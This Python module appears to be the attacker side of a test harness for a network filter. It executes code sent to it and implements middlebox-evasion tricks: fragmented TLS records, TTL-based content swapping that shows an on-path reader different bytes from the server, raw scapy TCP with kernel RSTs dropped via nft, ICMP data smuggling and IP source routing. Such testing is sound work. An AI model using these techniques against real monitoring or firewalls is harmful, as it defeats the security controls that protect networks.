"""What attacks are made of. Read by attacker.ts and run as a loop: one JSON request a line in, one JSON answer a line out."""
import ctypes, errno, itertools, json, os, select, socket, ssl, struct, sys, textwrap, threading, time


def family_of(address):
    return socket.AF_INET6 if ':' in address else socket.AF_INET


# No port twice: a flow is found by it in the records. 20000 to 31999 are below the ports that the kernel gives (32768 up).
source_ports = itertools.count(40000 + os.getpid() * 1009 % 20000)
raw_ports = itertools.count(os.getpid() * 1009)


def dial(host, port, family=0, timeout=6):
    """A TCP connection that sends each write as a segment of its own."""
    kind, type_, protocol, _, at = socket.getaddrinfo(host, port, family, socket.SOCK_STREAM)[0]
    s = socket.socket(kind, type_, protocol)
    s.settimeout(timeout)
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    while True:
        try:
            s.bind(('', next(source_ports)))
            break
        except OSError as e:
            if e.errno != errno.EADDRINUSE:
                raise
    s.connect(at)
    return s


def pieces_of(data, sizes):
    """Cuts data; the last size is used again and again."""
    pieces, at, turn = [], 0, 0
    while at < len(data):
        size = sizes[min(turn, len(sizes) - 1)]
        pieces.append(data[at:at + size])
        at, turn = at + size, turn + 1
    return pieces


def records_of(flight, size):
    """The same handshake messages in records of this size."""
    message, at = b'', 0
    while at < len(flight):
        length = struct.unpack('>H', flight[at + 3:at + 5])[0]
        message, at = message + flight[at + 5:at + 5 + length], at + 5 + length
    return b''.join(b'\x16\x03\x01' + struct.pack('>H', len(p)) + p for p in pieces_of(message, [size]))


class Tls:
    """A TLS client whose first flight can be sent in any way. `fill`: bytes of made-up ALPN names, to lengthen the hello."""

    def __init__(self, name, fill=0):
        context = ssl.create_default_context()
        names = ['http/1.1']
        while fill > 0:
            names.append(('x%07d' % fill).ljust(min(max(fill, 9), 255) - 1, 'y')[:250])
            fill -= len(names[-1]) + 1
        context.set_alpn_protocols(names)
        self.inward, self.outward = ssl.MemoryBIO(), ssl.MemoryBIO()
        self.name = name
        self.tls = context.wrap_bio(self.inward, self.outward, server_hostname=name)
        try:
            self.tls.do_handshake()
        except ssl.SSLWantReadError:
            pass
        self.hello = self.outward.read()

    def pump(self, sock, step):
        while True:
            try:
                value = step()
                sock.sendall(self.outward.read())
                return value
            except ssl.SSLWantReadError:
                pending = self.outward.read()
                if pending:
                    sock.sendall(pending)
                data = sock.recv(65536)
                if not data:
                    raise ConnectionError('closed by the other side')
                self.inward.write(data)

    def get(self, sock, path='/'):
        """The rest of the handshake, one request, and the status code."""
        self.pump(sock, self.tls.do_handshake)
        request = 'GET %s HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n' % (path, self.name)
        self.pump(sock, lambda: self.tls.write(request.encode()))
        return int(self.pump(sock, lambda: self.tls.read(4096)).split()[1])


def fate(sock, timeout=2.0, most=65536):
    """What becomes of a connection: `reset`, `closed`, or `open` while nothing happens; and the bytes that came."""
    data = b''
    end = time.monotonic() + timeout
    try:
        while len(data) < most:
            left = end - time.monotonic()
            if left <= 0:
                return {'end': 'open', 'data': data.hex()}
            sock.settimeout(left)
            got = sock.recv(65536)
            if not got:
                return {'end': 'closed', 'data': data.hex()}
            data += got
        return {'end': 'open', 'data': data.hex()}
    except socket.timeout:
        return {'end': 'open', 'data': data.hex()}
    except ConnectionResetError:
        return {'end': 'reset', 'data': data.hex()}
    except OSError as e:
        return {'end': errno.errorcode.get(e.errno, str(e)), 'data': data.hex()}


def hops(sock, count):
    if sock.family == socket.AF_INET6:
        sock.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_UNICAST_HOPS, count)
    else:
        sock.setsockopt(socket.IPPROTO_IP, socket.IP_TTL, count)


def swap(sock, judged, delivered):
    """
    Shows a reader on the way one text and the server another, without a privilege: a page is sent by reference with so few
    hops that it dies behind the reader, is rewritten, and is sent again by the kernel itself.
    """
    assert len(judged) == len(delivered)
    page = os.memfd_create('page')
    os.write(page, judged)
    hops(sock, 1)
    sock.setblocking(True)
    sent = os.sendfile(sock.fileno(), page, 0, len(judged))
    assert sent == len(judged)
    time.sleep(0.05)
    os.pwrite(page, delivered, 0)
    hops(sock, 64)
    os.close(page)


class Recorder:
    """A server that keeps every byte it gets. `speak`: what it says at once; `answers`: what it says to its n-th read."""

    def __init__(self, address, port, speak=b'', answers=(), fast_open=False):
        self.connections, self.answers, self.speak = [], list(answers), speak
        self.listener = socket.socket(family_of(address), socket.SOCK_STREAM)
        self.listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        if self.listener.family == socket.AF_INET6:
            self.listener.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 1)
        if fast_open:
            self.listener.setsockopt(socket.IPPROTO_TCP, socket.TCP_FASTOPEN, 16)
        self.listener.bind((address, port))
        self.listener.listen(512)
        threading.Thread(target=self.accept, daemon=True).start()

    def accept(self):
        while True:
            sock, source = self.listener.accept()
            one = {'data': bytearray(), 'urgent': bytearray(), 'end': 'open', 'source': source[0], 'port': source[1]}
            self.connections.append(one)
            threading.Thread(target=self.read, args=(sock, one), daemon=True).start()

    def read(self, sock, one):
        turn = 0
        try:
            if self.speak:
                sock.sendall(self.speak)
            while True:
                data = sock.recv(65536)
                if not data:
                    one['end'] = 'closed'
                    return
                one['data'] += data
                if turn < len(self.answers) and self.answers[turn]:
                    sock.sendall(self.answers[turn])
                turn += 1
        except OSError as e:
            one['end'] = errno.errorcode.get(e.errno, str(e))

    def seen(self):
        return [{'data': bytes(c['data']).hex(), 'end': c['end'], 'source': c['source'], 'port': c['port']} for c in self.connections]


class RawTcp:
    """A TCP connection spoken by hand over scapy. The kernel must be kept from resetting it: see `quiet`."""

    def __init__(self, to, port, source, mac, device='eth0', source_port=None):
        from scapy.all import IP, TCP, Ether, IPv6
        self.parts = (Ether, IPv6 if ':' in to else IP, TCP)
        self.link = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
        self.link.bind((device, 0))
        self.to, self.port, self.source, self.mac = to, port, source, mac
        self.own = own_mac(device)
        self.source_port = source_port or 20000 + next(raw_ports) % 12000
        self.first = int.from_bytes(os.urandom(4), 'big') >> 1
        self.base = self.first + 1
        self.ack = 0

    def send(self, at, payload=b'', flags='PA', ack=None, **header):
        """`at`: offset from the first byte of data."""
        Ether, Ip, Tcp = self.parts
        words = {'seq': (self.base + at) & 0xffffffff, 'ack': self.ack if ack is None else ack, 'flags': flags, 'window': 64240}
        segment = Tcp(sport=self.source_port, dport=self.port, **words) / payload
        self.link.send(bytes(Ether(src=self.own, dst=self.mac) / Ip(src=self.source, dst=self.to, **header) / segment))

    def hear(self, timeout=1.0, flags=None):
        """The next segment of the connection (with these flags), or None."""
        from scapy.all import Ether, TCP
        end = time.monotonic() + timeout
        while (left := end - time.monotonic()) > 0:
            if not select.select([self.link], [], [], left)[0]:
                return None
            frame, at = self.link.recvfrom(65536)
            if at[2] == socket.PACKET_OUTGOING:
                continue
            packet = Ether(frame)
            if TCP in packet and packet[TCP].dport == self.source_port and packet[TCP].sport == self.port:
                if flags is None or str(packet[TCP].flags) == flags:
                    return packet[TCP]
        return None

    def open(self, flags='S', payload=b''):
        self.send(-1, payload, flags, ack=0)
        answer = self.hear(2, 'SA')
        if answer is None:
            return False
        self.ack = (answer.seq + 1) & 0xffffffff
        self.send(0, b'', 'A')
        return True

    def heard(self, timeout=0.3):
        """Flags of everything that comes within a time."""
        found = []
        while (segment := self.hear(timeout)) is not None:
            found.append(str(segment.flags))
        return found


def own_mac(device):
    import fcntl
    s = socket.socket()
    return ':'.join('%02x' % b for b in fcntl.ioctl(s.fileno(), 0x8927, device.encode().ljust(40, b'\0'))[18:24])


def quiet():
    """Keeps the kernel from answering for connections it does not know. Frames sent by hand do not pass its output hook."""
    import subprocess
    rules = 'table inet quiet {\nchain out {\ntype filter hook output priority 0\ntcp flags & rst == rst drop\n}\n}\n'
    subprocess.run(['nft', '-f', '-'], input=rules, text=True, check=True)


def ping(family, to):
    """Data in an echo request, by a socket that needs no privilege; the length of the answer."""
    kind = (socket.AF_INET, socket.IPPROTO_ICMP) if family == 4 else (socket.AF_INET6, socket.IPPROTO_ICMPV6)
    s = socket.socket(kind[0], socket.SOCK_DGRAM, kind[1])
    s.settimeout(1)
    s.connect((to, 0))
    s.send(bytes([8 if family == 4 else 128, 0, 0, 0, 0, 1, 0, 1]) + b'secret' * 20)
    return len(s.recv(2000))


def source_route(to, via):
    """The same by a socket that needs no privilege; the length of the answer."""
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(0.5)
    s.setsockopt(socket.IPPROTO_IP, 4, bytes([131, 7, 4]) + socket.inet_aton(via) + bytes(1))
    s.sendto(b'evil', (to, 7))
    return len(s.recv(10))


def ask(to, port):
    """A datagram; the length of the answer."""
    s = socket.socket(family_of(to), socket.SOCK_DGRAM)
    s.settimeout(1)
    s.connect((to, port))
    s.send(b'secret')
    return len(s.recv(100))


recorders = {}


def plain(value):
    return value.hex() if isinstance(value, (bytes, bytearray)) else value


def serve(library):
    scope = dict(library)
    for line in sys.stdin:
        request = json.loads(line)
        scope['args'] = request['args']
        scope['result'] = None
        try:
            exec(compile(textwrap.dedent(request['code']), 'attack', 'exec'), scope)
            answer = {'value': plain(scope['result'])}
        except Exception as e:
            answer = {'error': type(e).__name__, 'number': errno.errorcode.get(getattr(e, 'errno', None) or 0, ''), 'message': str(e)}
        print(json.dumps({'id': request['id'], **answer}), flush=True)


if __name__ == '__main__':
    print('{"ready":true}', flush=True)
    serve(globals())
